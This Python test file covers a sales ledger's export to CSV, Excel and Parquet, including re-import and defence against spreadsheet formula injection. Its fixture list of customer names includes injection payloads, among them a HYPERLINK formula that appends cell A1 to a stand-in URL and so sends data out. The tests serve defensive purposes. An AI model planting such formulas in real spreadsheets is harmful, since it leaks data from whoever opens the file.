"""The company's data leave the ledger whole, and can be opened safely and taken in again."""

import csv
import random
import tracemalloc
from datetime import date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from salesbook.actions.closing import close
from salesbook.actions.company import create_company
from salesbook.actions.exporting import Selection, export
from salesbook.actions.verifying import read_all
from salesbook.documents.master_data import Customer
from salesbook.documents.posting import PAPER_KINDS
from salesbook.documents.record import Record
from salesbook.ledger import postings_file, store
from salesbook.ledger.cutoff import Cutoff
from salesbook.ledger.history import load
from salesbook.ledger.log_entry import DataFile
from salesbook.ledger.schema import GENESIS_HASH, posting_hash, postings_of, to_rows
from salesbook.messages import error_sentence
from salesbook.problems import HostError, SalesbookError
from salesbook.records import RECORD_MODELS
from salesbook.settings import LANGUAGES, CompanySettings, PeriodSettings
from salesbook.sheets.columns import EXPORTED, FORMS, LISTS, RECORD_TABLES
from salesbook.workbooks import export as export_workbooks
from salesbook.workbooks.building import BookInfo
from salesbook.workbooks.style import Look
from tests.ledger.by_hand import Pen, order
from tests.small_company import Desk, body_of, columns_of, find_table, put, shows

NAMES = ['=HYPERLINK("http://example.invalid/?q="&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", " =1+1"]
MARKUP = "<r><t>not & markup</t></r>"

ORDERS = """
    Ref  Date        Customer  Product  Quantity  Unit price
    A1   2026-03-05  C-1       BOLT-8   10
    A1                         NUT-8    4         2.25
    A2   2026-03-20  C-2       CLOTH    1.5
"""


def customers(desk: Desk, names: list[str], first: int = 11) -> Path:
    """A workbook of master data with one customer per name."""
    rows = "\n".join(f"        C-{number}      x     N1" for number in range(first, first + len(names)))
    book = desk.records("customer", f"        Customer  Name  Territory\n{rows}", f"customers {first}.xlsx")
    for row_number, name in enumerate(names, start=2):
        put(book, "customer", row_number, name=name)
    return book


def csv_rows(path: Path) -> list[dict[str, str]]:
    """The rows of a CSV file as any program reads them."""
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def table_cells(book: Path, kind: str, field: str, *, name: str = "") -> list[Any]:
    """The cells of a column of an exported table."""
    workbook = openpyxl.load_workbook(book)
    sheet, found = find_table(workbook, name or EXPORTED[kind].name)
    column = columns_of(sheet, found, EXPORTED[kind])[field]
    first, last = body_of(found)
    return [sheet.cell(row, column) for row in range(first, last + 1)]


def values(cells: list[Any]) -> list[Any]:
    return [cell.value for cell in cells]


def only_file(desk: Desk, *kinds: str, **more: Any) -> Path:
    """Export into a folder of its own; the one file."""
    folder = desk.folder / f"out {len(list(desk.folder.glob('out *')))}"
    (path,) = export(desk.company, folder, selection=Selection(kinds), **more).files
    return path


# ---- What comes out ---------------------------------------------------------------------------------------------


def test_the_whole_chain_of_postings_comes_out_as_parquet_with_all_columns(
    desk: Desk, monkeypatch: pytest.MonkeyPatch
) -> None:
    import pyarrow.parquet as pq

    monkeypatch.setattr(postings_file, "ROWS_PER_GROUP", 5)
    desk.post(desk.orders(ORDERS))
    desk.reverse("SO-2026-00001")
    desk.today = date(2026, 12, 31)
    close("2026-12", desk.company)
    path = only_file(desk, file_format="parquet")
    file = pq.ParquetFile(path)
    found = list(postings_of(to_rows(file.read())))
    assert found == read_all(desk.company)
    assert [stored.lines[0].kind for stored in found][-2:] == ["opening_balance", "period"]
    assert file.metadata.num_row_groups > 2
    head = GENESIS_HASH
    for stored in found:
        assert stored.stamp.prev_hash == head
        head = posting_hash(stored.stamp, stored.lines)
        assert head == stored.stamp.hash


def test_a_csv_file_per_kind_says_what_was_posted_mirrors_included(desk: Desk) -> None:
    desk.post(desk.orders(ORDERS))
    desk.reverse("SO-2026-00001")
    result = export(desk.company, desk.folder / "out", "csv")
    names = {path.stem for path in result.files}
    assert names == {
        "sales_order",
        *(kind for kind in ("tax_code", "territory", "salesperson", "assignment", "customer", "product")),
    }
    rows = csv_rows(desk.folder / "out" / "sales_order.csv")
    shown = ("No.", "Line no.", "Reverses", "Date", "Quantity", "Unit price", "Net amount", "Tax", "Currency")
    assert [tuple(row[name] for name in shown) for row in rows] == [
        ("SO-2026-00001", "1", "", "2026-03-05", "10", "10", "100", "5", "USD"),
        ("SO-2026-00001", "2", "", "2026-03-05", "4", "2.25", "9", "0.45", "USD"),
        ("SO-2026-00002", "1", "", "2026-03-20", "1.5", "8", "12", "1.56", "USD"),
        ("RV-2026-00001", "1", "SO-2026-00001", "2026-03-05", "-10", "10", "-100", "-5", "USD"),
        ("RV-2026-00001", "2", "SO-2026-00001", "2026-03-05", "-4", "2.25", "-9", "-0.45", "USD"),
    ]
    assert result.rows["sales_order"] == 5
    assert result.version == desk.version


def test_a_record_comes_out_in_its_newest_version_with_the_day_from_which_it_counts(desk: Desk) -> None:
    desk.post(desk.records("customer", """
        Customer  Name       Territory  Valid from
        C-1       Alpha Ltd  N1         2026-06-01
    """))  # fmt: skip
    folder = desk.folder / "out"
    export(desk.company, folder / "now", "csv", Selection(["customer"]))
    found = [(row["Customer"], row["Name"], row["Valid from"]) for row in csv_rows(folder / "now" / "customer.csv")]
    assert found == [("C-1", "Alpha Ltd", "2026-06-01"), ("C-2", "Beta", "")]
    export(desk.company, folder / "May", "csv", Selection(["customer"], Cutoff(date(2026, 5, 31))))
    found = [(row["Customer"], row["Name"], row["Valid from"]) for row in csv_rows(folder / "May" / "customer.csv")]
    assert found == [("C-1", "Alpha", ""), ("C-2", "Beta", "")]


@pytest.mark.parametrize(
    ("day", "numbers"), [("2026-03-04", []), ("2026-03-05", ["A1", "A1"]), ("2026-03-20", ["A1", "A1", "A2"])]
)
def test_postings_up_to_a_day_and_that_day_too(desk: Desk, day: str, numbers: list[str]) -> None:
    desk.post(desk.orders(ORDERS))
    export(desk.company, desk.folder / "out", "csv", Selection(["sales_order"], Cutoff(date.fromisoformat(day))))
    assert [row["Ref"] for row in csv_rows(desk.folder / "out" / "sales_order.csv")] == numbers


def test_what_was_known_at_a_moment_is_told_in_the_companys_time(desk: Desk) -> None:
    """Stored at 17:30 UTC is 01:30 of the next day in Taipei."""
    desk.change_settings('time_zone = "UTC"', 'time_zone = "Asia/Taipei"')
    desk.post(desk.orders(ORDERS))
    moment = read_all(desk.company)[-1].stamp.posted_at
    local = moment + timedelta(hours=8)

    def rows_at(known_at: datetime, name: str) -> int:
        selection = Selection(["sales_order"], Cutoff(known_at=known_at))
        return export(desk.company, desk.folder / name, "csv", selection).rows["sales_order"]

    assert rows_at(moment, "that moment") == 3
    assert rows_at(moment - timedelta(seconds=1), "moment before") == 0
    (row, *_) = csv_rows(desk.folder / "that moment" / "sales_order.csv")
    assert row["Posted at"] == local.replace(tzinfo=None).isoformat(" ", "seconds")


def test_a_workbook_has_a_table_per_kind_with_numbers_dates_and_texts(desk: Desk) -> None:
    desk.post(desk.orders(ORDERS))
    book = only_file(desk)
    assert book.name == "Export 2026-03-05.xlsx"
    workbook = openpyxl.load_workbook(book)
    assert workbook.sheetnames[:2] == ["Start", "Orders"]
    assert values(table_cells(book, "sales_order", "net_amount")) == [100, 9, 12]
    assert {cell.data_type for cell in table_cells(book, "sales_order", "net_amount")} == {"n"}
    assert table_cells(book, "sales_order", "net_amount")[0].number_format == "#,##0.00"
    dates = table_cells(book, "sales_order", "document_date")
    assert [cell.value.date() for cell in dates] == [date(2026, 3, 5), date(2026, 3, 5), date(2026, 3, 20)]
    assert all(cell.is_date for cell in (*dates, *table_cells(book, "sales_order", "posted_at")))
    assert {cell.data_type for cell in table_cells(book, "customer", "customer_no")} == {"s"}


def test_headers_and_names_are_those_of_the_language(desk: Desk) -> None:
    desk.post(desk.orders(ORDERS))
    book = only_file(desk, language="zh-Hant")
    assert book.name == "匯出 2026-03-05.xlsx"
    assert "訂單列表" in openpyxl.load_workbook(book).sheetnames
    export(desk.company, desk.folder / "csv", "csv", Selection(["customer"]), "zh-Hans")
    (first, _) = csv_rows(desk.folder / "csv" / "customer.csv")
    assert (first["客户"], first["名称"], first["停用"], first["付款天数"]) == ("C-1", "Alpha", "否", "30")


@pytest.mark.parametrize("language", LANGUAGES)
def test_no_header_stands_twice_in_a_table(language: Any) -> None:
    for table in EXPORTED.values():
        titles = [field.title.get(language) for field in table.fields]
        assert len(titles) == len({title.casefold() for title in titles}), table.name


def test_every_kind_of_paper_and_record_can_be_exported_and_papers_are_never_taken_for_entries() -> None:
    without_a_sheet = {"period", "approval", "order_hold"}  # These are decided by commands.
    assert set(EXPORTED) | without_a_sheet == {*PAPER_KINDS, *RECORD_MODELS, "target_plan"}
    entries = {table.name for table in (*LISTS.values(), *(form.lines for form in FORMS.values()))}
    assert not entries & {table.name for table in EXPORTED.values()}
    assert {kind: EXPORTED[kind].name for kind in RECORD_TABLES} == {k: t.name for k, t in RECORD_TABLES.items()}


def test_more_rows_than_a_sheet_holds_continue_on_the_next_one(tmp_path: Path) -> None:
    path = tmp_path / "large.xlsx"
    with export_workbooks.export_book(path, BookInfo(Look()), ["customer"], rows_per_sheet=2) as add_row:
        for number in range(1, 6):
            add_row("customer", {"customer_no": f"C-{number}"})
    assert openpyxl.load_workbook(path).sheetnames == ["Start", "Customers", "Customers 2", "Customers 3"]
    found = [values(table_cells(path, "customer", "customer_no", name=f"tblCustomers{n}")) for n in ("", "_2", "_3")]
    assert found == [["C-1", "C-2"], ["C-3", "C-4"], ["C-5"]]


def test_a_long_sheet_needs_no_more_memory_than_a_short_one(tmp_path: Path) -> None:
    def peak(rows: int) -> int:
        tracemalloc.start()
        with export_workbooks.export_book(tmp_path / f"{rows}.xlsx", BookInfo(Look()), ["customer"]) as add_row:
            for number in range(rows):
                add_row("customer", {"customer_no": f"C-{number}", "name": "x" * 100})
        (_, most) = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return most

    peak(1)  # What is imported on the way counts for none of them.
    assert peak(2000) - peak(200) < 300_000
    assert [path.suffix for path in tmp_path.iterdir()] == [".xlsx"] * 3


def test_a_kind_that_was_asked_for_comes_out_even_when_there_is_none(desk: Desk) -> None:
    book = only_file(desk, "visit")
    assert openpyxl.load_workbook(book).sheetnames == ["Start", "Visits"]
    assert values(table_cells(book, "visit", "salesperson_no")) == [None]
    export(desk.company, desk.folder / "csv", "csv", Selection(["visit"]))
    assert csv_rows(desk.folder / "csv" / "visit.csv") == []


def test_an_empty_ledger_has_nothing_to_take_out(tmp_path: Path) -> None:
    company = create_company(tmp_path / "New", CompanySettings(name="New"))
    with pytest.raises(SalesbookError) as caught:
        export(company, tmp_path / "out")
    assert error_sentence(caught.value, "en").startswith("The ledger holds nothing yet")
    assert not (tmp_path / "out").exists()


# ---- Files of people, and exports that break off ----------------------------------------------------------------


def test_a_file_that_is_there_is_never_written_over(desk: Desk) -> None:
    folder = desk.folder / "out"
    folder.mkdir()
    (folder / "customer.csv").write_text("mine", encoding="utf-8")
    (folder / "notes.txt").write_text("mine too", encoding="utf-8")
    with pytest.raises(HostError) as caught:
        export(desk.company, folder, "csv")
    assert error_sentence(caught.value, "en").startswith("customer.csv exists already and was left as it is.")
    assert sorted(path.name for path in folder.iterdir()) == ["customer.csv", "notes.txt"]
    assert (folder / "customer.csv").read_text(encoding="utf-8") == "mine"
    export(desk.company, folder, "csv", Selection(["product"]))
    assert (folder / "product.csv").is_file()


@pytest.mark.parametrize("file_format", ["xlsx", "csv", "parquet"])
def test_an_export_that_meets_damage_leaves_no_file(desk: Desk, file_format: Any) -> None:
    desk.post(desk.orders(ORDERS))
    with desk.company.cache():
        data = max(desk.company.store.storage.folder.glob("part-*.parquet"))
    content = bytearray(data.read_bytes())
    content[len(content) // 2] ^= 1
    data.write_bytes(content)
    with pytest.raises(SalesbookError, match="ledger-file-damaged"):
        export(desk.company, desk.folder / "out", file_format)
    assert list((desk.folder / "out").iterdir()) == []


@pytest.mark.parametrize("file_format", ["xlsx", "csv", "parquet"])
def test_a_disk_that_is_full_leaves_no_file_and_is_told(tmp_path: Path, file_format: Any) -> None:
    resource = pytest.importorskip("resource", reason="limits on the size of files are a matter of Unix")
    company = create_company(tmp_path / "Acme", CompanySettings(name="Acme"))
    remarks = random.Random(20260305)
    Pen(company.store).write([order("SO-1", line_no=n, remark=remarks.randbytes(400).hex()) for n in range(1, 401)])
    with company.cache():
        pass
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (100_000, hard))
    try:
        with pytest.raises(HostError) as caught:
            export(company, tmp_path / "out", file_format)
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
    assert caught.value.code == "folder-not-writable"
    assert list((tmp_path / "out").iterdir()) == []
    export(company, tmp_path / "out", file_format)
    assert len(list((tmp_path / "out").iterdir())) == 1


def test_a_folder_that_is_a_file_is_told(desk: Desk) -> None:
    (desk.folder / "out").write_text("a file", encoding="utf-8")
    with pytest.raises(HostError) as caught:
        export(desk.company, desk.folder / "out")
    assert "Nothing was left there" in error_sentence(caught.value, "en")


def test_what_is_posted_meanwhile_is_left_for_the_next_export(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    content = store.LedgerStore.content
    posted: list[str] = []

    def read_while_others_post(self: store.LedgerStore, file: DataFile) -> Any:
        if not posted:
            posted.append("once")
            desk.post(desk.orders(ORDERS))
        return content(self, file)

    with desk.company.cache():
        company, version = desk.company, desk.version
    monkeypatch.setattr(store.LedgerStore, "content", read_while_others_post)
    result = export(company, desk.folder / "out", "parquet")
    assert (result.version, desk.version) == (version, version + 1)
    assert result.rows["sales_order"] == 0


# ---- Texts that would be evaluated ------------------------------------------------------------------------------


@pytest.fixture
def named(desk: Desk) -> Desk:
    """A company whose customers have names of outsiders."""
    assert not desk.post(customers(desk, [*NAMES, "'=1+1", MARKUP])).problems
    return desk


STORED = [*(name.strip() for name in NAMES), "=1+1", MARKUP]
"""What the ledger has of the names: blanks around them are typing, and an apostrophe before a sign is protection."""


def stored_names(desk: Desk) -> list[str]:
    with desk.company.cache() as cache:
        found = load(cache, Customer)
    return [found[f"C-{number}"][-1].name for number in range(11, 11 + len(STORED))]


def test_names_that_look_like_formulas_are_texts_in_each_csv_cell(named: Desk) -> None:
    assert stored_names(named) == STORED
    export(named.company, named.folder / "out", "csv", Selection(["customer"]))
    found = [row["Name"] for row in csv_rows(named.folder / "out" / "customer.csv") if row["Customer"] > "C-10"]
    assert set(found) == {*(f"'{name}" for name in STORED[:-1]), MARKUP, "Beta"}


def test_names_that_look_like_formulas_are_texts_in_an_exported_workbook(named: Desk) -> None:
    cells = table_cells(only_file(named), "customer", "name")
    assert {cell.value for cell in cells} == {*STORED, "Alpha", "Beta"}
    assert {cell.data_type for cell in cells} == {"s"}
    assert not any(cell.hyperlink for cell in cells)


OUR_FORMULAS = (
    "=IF(", "=SUM(", "=SUMIFS(tbl", "=ROUND(ROUND(ROUND((Quotation.net_total", "=ROUND(ROUND(ROUND((Order.net_total",
    "=HYPERLINK(\"#'Orders'!", "=IFERROR(INDEX(lkpStock,",
)  # fmt: skip


def test_names_that_look_like_formulas_are_texts_wherever_we_write_them(named: Desk) -> None:
    """In look-ups, in a list that is filled in, in notes and in the list of problems."""
    product = named.records("product", """
        Product  Name  Unit  Base price
        P-1      x     pcs   1
    """)  # fmt: skip
    put(product, "product", 2, name=NAMES[0])
    named.post(product)
    book = named.orders("""
        Ref  Date        Customer  Product  Quantity
        A1   2026-03-05  C-11      P-1      1
        A2   2026-03-05  C-1       x        1
        A3   2026-03-05  C-1       P-1      -5
    """)
    for row_number, code in ((3, NAMES[0]), (4, "P-1")):
        put(book, "sales_order", row_number, product_no=code)
    named.post(book)
    put(book, "sales_order", 3, product_no=NAMES[3])
    named.post(book)
    assert shows(book, "sales_order", "description")[0] == (NAMES[0],)
    workbook = openpyxl.load_workbook(book)
    formulas = {
        str(cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" and not str(cell.value).startswith(OUR_FORMULAS)
    }
    assert formulas == set()
    assert {NAMES[0], "@SUM(A1)"} <= {cell.value for row in workbook["Look-ups"].iter_rows() for cell in row}
    assert any(
        "@SUM(A1)" in str(cell.comment.text) for row in workbook["Orders"].iter_rows() for cell in row if cell.comment
    )


def test_a_name_with_an_apostrophe_of_its_own_is_the_same_on_every_sheet(desk: Desk) -> None:
    """Typed with two apostrophes, one of them its own: what posting fills in reads as the same name again."""
    product = desk.records("product", """
        Product  Name  Unit  Base price
        P-1      x     pcs   1
    """)  # fmt: skip
    put(product, "product", 2, name="''=1+1")
    assert not desk.post(product).problems
    book = desk.orders("""
        Ref  Date        Customer  Product  Quantity
        A1   2026-03-05  C-1       P-1      3
    """)
    desk.post(book)
    assert desk.show("SO-2026-00001").lines[0].posting.description == "'=1+1"
    assert desk.post(book).count("already") == 1
    desk.make("delivery_note", book)
    assert not desk.post(book).problems
    assert desk.show("DN-2026-00001").lines[0].posting.description == "'=1+1"


def test_a_company_and_master_data_of_such_names_are_texts_in_new_workbooks(tmp_path: Path) -> None:
    from salesbook.actions.workbooks import TITLES, new_workbook

    settings = CompanySettings(name="=1+1", company_id="acme", tax_codes={"=T": Decimal(5)})
    company = create_company(tmp_path / "Acme", settings)
    for kind in TITLES:
        path = new_workbook(company, kind, tmp_path / f"{kind}.xlsx")
        cells = [c for sheet in openpyxl.load_workbook(path).worksheets for row in sheet.iter_rows() for c in row]
        assert any(cell.value == "=1+1" and cell.data_type == "s" for cell in cells)
        assert not [cell.value for cell in cells if cell.data_type == "f" and "1+1" in str(cell.value)]


# ---- Taking it in again -----------------------------------------------------------------------------------------


def fresh(desk: Desk) -> Desk:
    """A new company with nothing in it."""
    folder = desk.folder.parent / "Fresh"
    create_company(folder, CompanySettings(name="Fresh", periods=PeriodSettings(open_from="2025-01-01")))
    return Desk(folder)


def records_of(desk: Desk) -> dict[str, dict[str, Record]]:
    """The newest version of every record."""
    with desk.company.cache() as cache:
        return {
            kind: {key: versions[-1] for key, versions in load(cache, model).items()}
            for kind, model in RECORD_MODELS.items()
        }


def test_an_exported_workbook_is_posted_into_a_fresh_company_and_nothing_is_lost(named: Desk) -> None:
    named.post(named.records("price", """
        Price list  Product  From quantity  Unit price  Valid from
        default     BOLT-8   100            9.2         2026-01-01
        default     BOLT-8                  9.8
    """))  # fmt: skip
    named.post(named.records("visit", """
        Salesperson  Date        Customer  Note
        P1           2026-03-02  C-1       Showed the new bolts
    """, "visits.xlsx"))  # fmt: skip
    named.post(named.orders(ORDERS))
    book = only_file(named)
    new = fresh(named)
    report = new.post(book)
    assert {decision.outcome for decision in report.decisions} == {"posted"}
    assert not report.problems
    assert records_of(new) == records_of(named)


def test_an_exported_workbook_is_nothing_new_to_the_company_that_it_comes_from(named: Desk) -> None:
    version = named.version
    report = named.post(only_file(named))
    assert {decision.outcome for decision in report.decisions} == {"already"}
    assert named.version == version


def test_rows_of_a_csv_that_are_pasted_under_our_headers_give_the_same_customers(named: Desk) -> None:
    export(named.company, named.folder / "out", "csv", Selection(["customer", "territory", "salesperson"]))
    new = fresh(named)
    for kind in ("territory", "salesperson", "customer"):
        rows = csv_rows(named.folder / "out" / f"{kind}.csv")
        book = new.records(kind, "\n".join(["Name", *("x" for _ in rows)]), f"{kind}.xlsx")
        names = {field.title.en: field.name for field in RECORD_TABLES[kind].fields}
        for row_number, row in enumerate(rows, start=2):
            put(book, kind, row_number, **{names[title]: cell or None for title, cell in row.items() if title in names})
        report = new.post(book)
        assert not report.problems
    assert records_of(new)["customer"] == records_of(named)["customer"]


# ---- In a real spreadsheet program ------------------------------------------------------------------------------


@pytest.mark.libreoffice
def test_libreoffice_evaluates_no_name_and_adds_the_amounts_up(named: Desk, soffice: Any) -> None:
    named.post(named.orders(ORDERS))
    named.reverse("SO-2026-00002")
    export(named.company, named.folder / "out", "csv", Selection(["customer", "sales_order"]))
    customers_sheet = openpyxl.load_workbook(soffice(named.folder / "out" / "customer.csv", "xlsx")).active
    cells = [cell for row in customers_sheet.iter_rows() for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    assert "'@SUM(A1)" in [cell.value for cell in cells]
    orders_sheet = openpyxl.load_workbook(soffice(named.folder / "out" / "sales_order.csv", "xlsx")).active
    header = [cell.value for cell in orders_sheet[1]]
    amounts = [row[header.index("Net amount")] for row in orders_sheet.iter_rows(min_row=2)]
    assert {cell.data_type for cell in amounts} == {"n"}
    assert [cell.value for cell in amounts] == [100, 9, 12, -12]
    assert sum(cell.value for cell in amounts) == 109


@pytest.mark.libreoffice
def test_libreoffice_opens_an_exported_workbook_with_every_text_as_text(named: Desk, soffice: Any) -> None:
    book = soffice(only_file(named), "ods")
    assert book.stat().st_size > 0
    again = openpyxl.load_workbook(soffice(book, "xlsx"))
    names = [cell for row in again["Customers"].iter_rows(min_row=2, min_col=2, max_col=2) for cell in row]
    assert {cell.value for cell in names if cell.value} == {*STORED, "Alpha", "Beta"}
    assert {cell.data_type for cell in names if cell.value} == {"s"}
